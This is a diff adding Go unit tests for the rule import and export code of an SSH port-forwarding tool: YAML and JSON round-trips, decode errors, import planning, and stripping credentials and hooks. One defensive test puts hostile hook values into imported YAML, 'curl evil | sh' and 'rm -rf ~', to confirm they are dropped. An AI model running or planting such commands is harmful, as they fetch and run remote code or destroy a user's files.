@@ -0,0 +1,163 @@
+package ruleio
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/ousiassllc/moleport/internal/core"
+	"reflect"
+)
+
+func testDocument() Document {
+	retries := 3
+	return New(
+		[]core.ForwardRule{
+			{Name: "db", Host: "bastion", Type: core.Local, LocalPort: 15432, RemoteHost: "localhost", RemotePort: 5432,
+				TTL: core.Duration{Duration: 2 * time.Hour}},
+			{Name: "tmp", Host: "bastion", Type: core.Dynamic, LocalPort: 1080,
+				TTL: core.Duration{Duration: time.Hour}, DeleteOnExpire: true},
+		},
+		map[string]core.HostConfig{
+			"bastion": {
+				Reconnect:    &core.ReconnectOverride{MaxRetries: &retries},
+				HostMetadata: core.HostMetadata{Notes: "prod"},
+				Credentials:  &core.CredentialSource{},
+			},
+			"secret-only": {Credentials: &core.CredentialSource{}},
+		},
+	)
+}
+
+func TestNew_ExcludesTemporaryRulesAndCredentials(t *testing.T) {
+	doc := testDocument()
+
+	if len(doc.Forwards) != 1 || doc.Forwards[0].Name != "db" {
+		t.Errorf("Forwards = %+v, want only db", doc.Forwards)
+	}
+	if len(doc.Hosts) != 1 || doc.Hosts["bastion"].Credentials != nil {
+		t.Errorf("Hosts = %+v, want bastion without credentials", doc.Hosts)
+	}
+}
+
+func TestEncodeDecode_Roundtrip(t *testing.T) {
+	doc := testDocument()
+	for _, format := range []string{FormatYAML, FormatJSON} {
+		t.Run(format, func(t *testing.T) {
+			data, err := Encode(doc, format)
+			if err != nil {
+				t.Fatalf("Encode() error = %v", err)
+			}
+			if format == FormatJSON && !strings.HasPrefix(string(data), "{") {
+				t.Errorf("Encode(json) = %s, want a JSON object", data)
+			}
+			got, err := Decode(data)
+			if err != nil {
+				t.Fatalf("Decode() error = %v", err)
+			}
+			if got.Version != Version || len(got.Forwards) != 1 || !reflect.DeepEqual(got.Forwards[0], doc.Forwards[0]) {
+				t.Errorf("Decode() = %+v, want %+v", got, doc)
+			}
+			if got.Hosts["bastion"].Notes != "prod" || *got.Hosts["bastion"].Reconnect.MaxRetries != 3 {
+				t.Errorf("Decode() hosts = %+v", got.Hosts)
+			}
+		})
+	}
+}
+
+func TestEncode_UnknownFormat(t *testing.T) {
+	if _, err := Encode(testDocument(), "toml"); err == nil {
+		t.Error("Encode(toml) should fail")
+	}
+}
+
+func TestDecode_Errors(t *testing.T) {
+	tests := map[string]string{
+		"empty":       "",
+		"unknown key": "version: 1\nforwardz: []\n",
+		"newer":       "version: 99\nforwards: []\n",
+	}
+	for name, data := range tests {
+		t.Run(name, func(t *testing.T) {
+			if _, err := Decode([]byte(data)); err == nil {
+				t.Errorf("Decode(%q) should fail", data)
+			}
+		})
+	}
+}
+
+func TestNewPlan(t *testing.T) {
+	local := []core.ForwardRule{
+		{Name: "db", Host: "bastion", Type: core.Local, LocalPort: 15432, RemoteHost: "localhost", RemotePort: 5432},
+		{Name: "web", Host: "bastion", Type: core.Local, LocalPort: 8080, RemoteHost: "localhost", RemotePort: 80},
+		{Name: "imported", Host: "dev", Type: core.Dynamic, LocalPort: 1080, ImportKey: "dev/DynamicForward/1080"},
+	}
+	doc := Document{
+		Forwards: []core.ForwardRule{
+			local[0],
+			{Name: "web", Host: "bastion-2", Type: core.Local, LocalPort: 8080, RemoteHost: "localhost", RemotePort: 80},
+			{Name: "api", Host: "bastion", Type: core.Local, LocalPort: 9000, RemoteHost: "localhost", RemotePort: 9000},
+			{Name: "api", Host: "bastion", Type: core.Local, LocalPort: 9001, RemoteHost: "localhost", RemotePort: 9001},
+			{Name: "", Host: "dev", Type: core.Dynamic, LocalPort: 1080, ImportKey: "dev/DynamicForward/1080"},
+			{Name: "bad", Type: core.Dynamic, LocalPort: 1081},
+		},
+		Hosts: map[string]core.HostConfig{
+			"bastion": {HostMetadata: core.HostMetadata{Notes: "team"}},
+			"dev":     {HostMetadata: core.HostMetadata{Notes: "dev box"}},
+		},
+	}
+	hosts := map[string]core.HostConfig{"bastion": {HostMetadata: core.HostMetadata{Notes: "mine"}}}
+
+	plan := NewPlan(doc, local, hosts, false)
+	if len(plan.Add) != 1 || plan.Add[0].Name != "api" || plan.Add[0].LocalPort != 9000 {
+		t.Errorf("Add = %+v, want api:9000", plan.Add)
+	}
+	if len(plan.Replace) != 0 {
+		t.Errorf("Replace = %+v, want none without replace", plan.Replace)
+	}
+	if len(plan.Skipped) != 4 {
+		t.Errorf("Skipped = %v, want web, duplicate api, imported and bad", plan.Skipped)
+	}
+	if _, ok := plan.Hosts["bastion"]; ok || plan.Hosts["dev"].Notes != "dev box" {
+		t.Errorf("Hosts = %+v, want only dev", plan.Hosts)
+	}
+
+	plan = NewPlan(doc, local, hosts, true)
+	if len(plan.Replace) != 1 || plan.Replace[0].Host != "bastion-2" {
+		t.Errorf("Replace = %+v, want web on bastion-2", plan.Replace)
+	}
+	if plan.Hosts["bastion"].Notes != "team" {
+		t.Errorf("Hosts = %+v, want bastion replaced", plan.Hosts)
+	}
+}
+
+func TestDecodeNewPlan_DropsHooks(t *testing.T) {
+	data := "version: 1\nforwards:\n" +
+		"  - name: db\n    host: bastion\n    type: local\n    local_port: 15432\n    remote_host: localhost\n    remote_port: 5432\n    auto_connect: true\n    on_start: curl evil | sh\n" +
+		"  - name: web\n    host: bastion\n    type: local\n    local_port: 8080\n    remote_host: localhost\n    remote_port: 80\n    on_stop: rm -rf ~\n"
+	doc, err := Decode([]byte(data))
+	if err != nil {
+		t.Fatalf("Decode() error = %v", err)
+	}
+	for _, r := range doc.Forwards {
+		if r.OnStart != "" || r.OnStop != "" {
+			t.Errorf("Decode() rule %s = %+v, want no hooks", r.Name, r)
+		}
+	}
+
+	local := []core.ForwardRule{
+		{Name: "web", Host: "bastion", Type: core.Local, LocalPort: 8080, RemoteHost: "localhost", RemotePort: 80, OnStart: "notify-send web"},
+	}
+	plan := NewPlan(doc, local, nil, true)
+	if len(plan.Add) != 1 || plan.Add[0].Name != "db" || plan.Add[0].OnStart != "" {
+		t.Errorf("Add = %+v, want db without hooks", plan.Add)
+	}
+	if len(plan.Replace) != 0 {
+		t.Errorf("Replace = %+v, want web kept with its local hook", plan.Replace)
+	}
+
+	exported := New(local, nil)
+	if exported.Forwards[0].OnStart != "" {
+		t.Errorf("New() = %+v, want web without hooks", exported.Forwards)
+	}
+}